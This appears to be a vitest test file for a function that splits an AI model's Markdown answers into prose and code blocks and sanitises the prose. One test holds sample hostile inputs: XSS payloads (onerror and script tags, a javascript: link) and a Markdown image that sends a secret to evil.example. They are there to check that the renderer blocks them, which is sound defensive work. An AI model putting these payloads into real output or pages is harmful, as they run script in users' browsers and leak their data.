import { describe, expect, it } from "vitest";
import { splitAnswer } from "./splitAnswer.ts";

describe("splitAnswer", () => {
  it("splits prose from code blocks, and reads a proposed file's path", () => {
    const answer = [
      "Change the greeting:",
      "",
      "```ts path=src/greet.ts",
      "export const greeting = 'hi';",
      "```",
      "",
      "Then run it:",
      "",
      "```sh",
      "npm start",
      "```",
    ].join("\n");
    expect(splitAnswer(answer)).toEqual([
      { kind: "prose", html: "<p>Change the greeting:</p>\n" },
      { kind: "code", lang: "ts", path: "src/greet.ts", code: "export const greeting = 'hi';\n" },
      { kind: "prose", html: "<p>Then run it:</p>\n" },
      { kind: "code", lang: "sh", path: null, code: "npm start\n" },
    ]);
  });

  it("shows a block still streaming (no closing fence yet) as code", () => {
    expect(splitAnswer("Here:\n\n```ts path=a.ts\nconst a")).toEqual([
      { kind: "prose", html: "<p>Here:</p>\n" },
      { kind: "code", lang: "ts", path: "a.ts", code: "const a" },
    ]);
  });

  it("never passes the model's HTML, script links or images through", () => {
    const [part] = splitAnswer(
      '<img src=x onerror="alert(1)"> <script>alert(1)</script> [click](javascript:alert(1)) ![leak](https://evil.example/?q=secret)',
    );
    expect(part?.kind).toBe("prose");
    const html = part?.kind === "prose" ? part.html : "";
    expect(html).not.toMatch(/<img|<script|href="javascript/i);
    expect(html).toContain("&lt;script&gt;");
  });

  it("renders Markdown prose, with links opening in a new tab", () => {
    const [part] = splitAnswer("**Bold** and `code` and [docs](https://example.com)");
    expect(part).toEqual({
      kind: "prose",
      html: '<p><strong>Bold</strong> and <code>code</code> and <a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>\n',
    });
  });
});
